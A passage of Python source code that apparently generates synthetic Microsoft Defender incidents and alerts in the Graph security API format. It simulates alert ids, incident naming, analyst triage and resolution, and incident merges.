        "redirectIncidentId": None,
        "tenantId": tenant_id,
        "displayName": "",
        "createdDateTime": graph_time(created),
        "lastUpdateDateTime": max(alert["lastUpdateDateTime"] for alert in alerts),
        "assignedTo": None,
        "classification": "unknown",
        "determination": "unknown",
        "status": "active",
        "severity": "informational",
        "customTags": [],
        "comments": [],
        "systemTags": ["Defender Experts"] if rng.random() < 0.02 else [],
        "description": story.description.format_map(scene.fields()),
        "summary": None,
        "lastModifiedBy": cat.AUTOMATION,
        "resolvingComment": None,
        "priorityScore": None,
        "alerts": alerts,
    }
    use_campaign_name = rng.random() < 0.3 and len(alerts) > 1
    refresh_summary(incident, campaign=story.name if use_campaign_name else None)
    if rng.random() < 0.9:
        base = {"high": 70, "medium": 40, "low": 15, "informational": 2}[incident["severity"]]
        incident["priorityScore"] = min(100, base + rng.randint(0, 29))
    return incident


def _pick_steps(rng: random.Random, story: cat.Story) -> list[cat.AlertSpec]:
    """The first step always, then an ordered sample; beyond the story's length a detection
    fires again (Defender raises the same alert for each new occurrence)."""
    want = rng.choices(_ALERT_COUNTS, weights=_ALERT_COUNT_WEIGHTS)[0]
    steps = story.steps
    chosen = sorted(rng.sample(range(1, len(steps)), min(want, len(steps)) - 1))
    specs = [steps[0], *(steps[i] for i in chosen)]
    while len(specs) < want:
        specs.append(steps[rng.randrange(len(steps))])
    return specs


def build_alert(
    rng: random.Random,
    scene: Scene,
    spec: cat.AlertSpec,
    *,
    incident_id: str,
    created: datetime,
    now: datetime,
) -> Json:
    """One new alert of ``spec`` about the scene's entities, created at ``created``."""
    product = cat.PRODUCTS[spec.product]
    tenant_id = scene.world.tenant_id
    alert_id, provider_id = _alert_id(rng, product, created)
    fields = scene.fields(spec.threat)
    threat = scene.threat(spec.threat) if spec.threat else None
    delay = timedelta(seconds=rng.uniform(20, 1800))
    duration = timedelta(seconds=rng.expovariate(1 / 900))
    at = graph_time(created)
    evidence = [EVIDENCE[name](scene, spec, created, at) for name in spec.evidence]
    ransomware = spec.threat == "ransomware"
    return {
        "@odata.type": "#microsoft.graph.security.alert",
        "id": alert_id,
        "providerAlertId": provider_id,
        "incidentId": incident_id,
        "status": "new",
        "severity": spec.severity,
        "classification": "unknown",
        "determination": "unknown",
        "serviceSource": product.service_source,
        "detectionSource": spec.detection or product.detection_source,
        "productName": product.product_name,
        "detectorId": spec.detector_id,
        "tenantId": tenant_id,
        "title": spec.title.format_map(fields),
        "description": spec.description.format_map(fields),
        "recommendedActions": product.actions,
        "category": spec.category,
        "assignedTo": None,
        "alertWebUrl": f"https://security.microsoft.com/alerts/{alert_id}?tid={tenant_id}",
        "incidentWebUrl": incident_url(incident_id, tenant_id),
        "actorDisplayName": scene.actor if ransomware and scene.actor else None,
        "threatDisplayName": threat.display if threat else None,
        "threatFamilyName": threat.family if threat else None,
        "mitreTechniques": list(spec.techniques),
        "createdDateTime": at,
        "lastUpdateDateTime": graph_time(
            min(now, created + timedelta(seconds=rng.uniform(1, 180)))
        ),
        "resolvedDateTime": None,
        "firstActivityDateTime": graph_time(created - delay - duration),
        "lastActivityDateTime": graph_time(created - delay),
        "comments": [],
        "evidence": evidence,
        "systemTags": [],
        "alertPolicyId": scene.guid() if spec.product in ("mdo", "mdca") else None,
        "categories": [spec.category],
        "investigationState": rng.choice(product.investigation_states),
        "additionalData": {},
        "customDetails": {},
    }


def swell(incident: Json, total: int) -> None:
    """Grow ``incident`` to ``total`` alerts, as a detection firing on every device of a
    fleet does: its alerts again, each with a new id, created with its original and updated
    at a moment of its own between that and the original's last update (so no two share a
    ``lastUpdateDateTime`` and the incident's own stays the newest)."""
    originals = list(incident.get("alerts") or ())
    if not originals or total <= len(originals):
        return
    for n in range(len(originals), total):
        alert = copy.deepcopy(originals[n % len(originals)])
        created, updated = _parse(alert["createdDateTime"]), _parse(alert["lastUpdateDateTime"])
        alert_id = f"{alert['id']}-{n}"
        alert["alertWebUrl"] = str(alert.get("alertWebUrl")).replace(alert["id"], alert_id)
        alert["id"] = alert_id
        alert["lastUpdateDateTime"] = graph_time(created + (updated - created) * n / total)
        incident["alerts"].append(alert)


def incident_url(incident_id: str, tenant_id: str) -> str:
    return f"https://security.microsoft.com/incidents/{incident_id}?tid={tenant_id}"


def _alert_id(rng: random.Random, product: cat.Product, created: datetime) -> tuple[str, str]:
    """Ids shaped like each product's: ``da<.NET ticks>_<int32>``, ``fa<guid>``, ``ca<GUID>``."""
    if product.id_style == "ticks":
        delta = created - _TICKS_EPOCH
        ticks = (delta.days * 86_400 + delta.seconds) * 10_000_000 + delta.microseconds * 10
        raw = f"{ticks + rng.randrange(10)}_{rng.randint(-(2**31), 2**31 - 1)}"
        return product.id_prefix + raw, product.id_prefix + raw
    bits = f"{rng.getrandbits(128):032x}"
    if product.id_style == "hex":
        return product.id_prefix + bits, bits
    raw = f"{bits[:8]}-{bits[8:12]}-{bits[12:16]}-{bits[16:20]}-{bits[20:]}"
    if product.id_style == "upper":
        raw = raw.upper()
    return product.id_prefix + raw, raw


def refresh_summary(incident: Json, *, campaign: str | None = None) -> None:
    """Severity and name follow the alerts, as Defender recomputes them when alerts join."""
    alerts: Sequence[Mapping[str, Any]] = incident.get("alerts") or ()
    if not alerts:
        return
    incident["severity"] = max(
        (str(a.get("severity", "unknown")) for a in alerts), key=lambda s: _SEVERITY_RANK.get(s, 0)
    )
    incident["displayName"] = campaign or display_name(alerts)


def display_name(alerts: Sequence[Mapping[str, Any]]) -> str:
    """Defender's naming: one alert keeps its title; several become a multi-stage incident."""
    devices: set[str] = set()
    users: set[str] = set()
    for alert in alerts:
        for item in alert.get("evidence") or ():
            kind = item.get("@odata.type", "")
            if kind.endswith("deviceEvidence") and "compromised" in (item.get("roles") or ()):
                devices.add(str(item.get("mdeDeviceId")))
            elif kind.endswith("userEvidence"):
                users.add(str((item.get("userAccount") or {}).get("azureAdUserId")))
    if devices:
        scope = "on one endpoint" if len(devices) == 1 else "on multiple endpoints"
    else:
        scope = "involving one user" if len(users) <= 1 else "involving multiple users"
    if len(alerts) == 1:
        return f"{alerts[0].get('title')} {scope}"
    tactics = list(
        dict.fromkeys(
            cat.TACTIC_NAMES.get(str(a.get("category")), "Suspicious activity") for a in alerts
        )
    )
    sources = {a.get("detectionSource") for a in alerts}
    reported = "reported by one source" if len(sources) == 1 else "reported by multiple sources"
    if len(tactics) == 1:
        return f"{tactics[0]} incident {scope} {reported}"
    return f"Multi-stage incident involving {tactics[0]} & {tactics[1]} {scope} {reported}"


# -- an analyst's work on an incident --------------------------------------------------------


def work_incident(
    rng: random.Random, world: World, incident: Json, story_key: str, *, now: datetime, age: float
) -> None:
    """Older incidents are more often already assigned, commented on and resolved."""
    roll = rng.random()
    resolved = roll < 0.05 + 0.6 * age
    in_progress = not resolved and roll < 0.23 + 0.6 * age
    if rng.random() < 0.15:
        incident["customTags"] = [rng.choice(cat.CUSTOM_TAGS)]
    if not (resolved or in_progress):
        return
    # Analysts pick an incident up after its alerts arrived, and resolve it some time later.
    arrived = _parse(incident["lastUpdateDateTime"])
    analyst = rng.choice(world.analysts)
    picked = arrived + (now - arrived) * rng.uniform(0.02, 0.4)
    finished = picked + (now - picked) * rng.uniform(0.05, 0.8)
    incident["assignedTo"] = analyst.upn
    incident["lastModifiedBy"] = analyst.upn
    incident["status"] = "resolved" if resolved else "inProgress"
    last = finished if resolved else picked
    comments = rng.choices((0, 1, 2, 3), weights=(3, 4, 2, 1))[0]
    moments = sorted(
        picked + (now - picked if not resolved else finished - picked) * rng.random()
        for _ in range(comments)
    )
    hints = evidence_hints(incident)
    for moment in moments:
        author = rng.choice(world.analysts) if rng.random() < 0.3 else analyst
        incident["comments"].append(
            comment(author.display, rng.choice(cat.COMMENTS), hints, moment)
        )
        last = max(last, moment)
    classification, determination = "unknown", "unknown"
    if resolved:
        classification = rng.choices(
            ("truePositive", "informationalExpectedActivity", "falsePositive"), weights=(60, 15, 25)
        )[0]
        determination = (
            _TP_DETERMINATION.get(story_key, "other")
            if classification == "truePositive" and rng.random() < 0.8
            else rng.choice(cat.DETERMINATIONS[classification])
        )
        incident["classification"] = classification
        incident["determination"] = determination
        incident["resolvingComment"] = cat.RESOLVING[classification]
    for alert in incident["alerts"]:
        if resolved:
            alert.update(status="resolved", resolvedDateTime=graph_time(finished))
            alert.update(classification=classification, determination=determination)
        elif rng.random() < 0.5:
            alert["status"] = "inProgress"
        else:
            continue
        alert["assignedTo"] = analyst.upn
        stamp = graph_time(finished if resolved else picked)
        alert["lastUpdateDateTime"] = max(alert["lastUpdateDateTime"], stamp)
        if rng.random() < 0.08:
            alert["comments"].append(
                comment(analyst.display, rng.choice(cat.COMMENTS), hints, picked)
            )
    incident["lastUpdateDateTime"] = max(incident["lastUpdateDateTime"], graph_time(last))


def comment(author: str, template: str, hints: Mapping[str, str], moment: datetime) -> Json:
    return {
        "comment": template.format_map(hints),
        "createdByDisplayName": author,
        "createdDateTime": graph_time(moment),
    }


def evidence_hints(incident: Mapping[str, Any]) -> dict[str, str]:
    """A device, user and remote address named in the incident's evidence, for comments."""
    hints = {"device": "the device", "user": "the user", "ip": "the remote address"}
    for alert in incident.get("alerts") or ():
        for item in alert.get("evidence") or ():
            kind = str(item.get("@odata.type", ""))
            if kind.endswith(".deviceEvidence") and hints["device"] == "the device":
                hints["device"] = str(item.get("hostName") or item.get("deviceDnsName"))
            elif kind.endswith(".userEvidence") and hints["user"] == "the user":
                hints["user"] = str((item.get("userAccount") or {}).get("userPrincipalName"))
            elif kind.endswith(".ipEvidence") and "attacker" in (item.get("roles") or ()):
                hints["ip"] = str(item.get("ipAddress"))
    return hints


def entity_keys(incident: Mapping[str, Any]) -> set[str]:
    """The users and devices an incident's alerts are about (what Defender correlates on)."""
    keys: set[str] = set()
    for alert in incident.get("alerts") or ():
        for item in alert.get("evidence") or ():
            kind = str(item.get("@odata.type", ""))
            if kind.endswith(".deviceEvidence") and item.get("mdeDeviceId"):
                keys.add(f"device:{item['mdeDeviceId']}")
            elif kind.endswith(".userEvidence"):
                user_id = (item.get("userAccount") or {}).get("azureAdUserId")
                if user_id:
                    keys.add(f"user:{user_id}")
    return keys


def _parse(stamp: str) -> datetime:
    return datetime.fromisoformat(stamp.replace("Z", "")[:26]).replace(tzinfo=UTC)


# -- merges ----------------------------------------------------------------------------------


def _merge_some(rng: random.Random, incidents: list[Json], now: datetime) -> None:
    """Merge a few incidents (~3%) into a later open incident sharing a user or device."""
    keys = [entity_keys(incident) for incident in incidents]
    absorbed: set[int] = set()
    targets: set[int] = set()
    for target in range(1, len(incidents)):
        if rng.random() >= 0.12 or not _mergeable(incidents[target]) or target in absorbed:
            continue
        for source in range(target - 1, max(-1, target - 40), -1):
            if (
                source in absorbed
                or source in targets
                or not _mergeable(incidents[source])
                or incidents[source]["assignedTo"] not in (None, incidents[target]["assignedTo"])
                or not keys[source] & keys[target]
            ):
                continue
            merge_into(incidents[source], incidents[target], rng=rng, now=now)
            absorbed.add(source)
            targets.add(target)
            break


def _mergeable(incident: Mapping[str, Any]) -> bool:
    return incident.get("status") in ("active", "inProgress") and incident.get(
        "classification"
    ) in (
        None,
        "unknown",
    )


def merge_into(source: Json, target: Json, *, rng: random.Random, now: datetime) -> None:
    """Defender's merge as the API shows it afterwards: alerts and tags moved, comments kept."""
    latest = max(source["lastUpdateDateTime"], target["createdDateTime"])
    moment = min(now, _parse(latest) + timedelta(minutes=rng.uniform(1, 90)))
    stamp = graph_time(moment)
    for alert in source["alerts"]:
        alert["incidentId"] = target["id"]
        alert["incidentWebUrl"] = target["incidentWebUrl"]
        alert["lastUpdateDateTime"] = max(alert["lastUpdateDateTime"], stamp)
    target["alerts"] = sorted(
        [*target["alerts"], *source["alerts"]], key=lambda alert: str(alert["createdDateTime"])
    )
    target["customTags"] = list(dict.fromkeys([*target["customTags"], *source["customTags"]]))
    source.update(alerts=[], customTags=[], status="redirected", redirectIncidentId=target["id"])
    for incident in (source, target):
        incident["lastUpdateDateTime"] = max(incident["lastUpdateDateTime"], stamp)
        incident["lastModifiedBy"] = cat.CORRELATION
    refresh_summary(target)
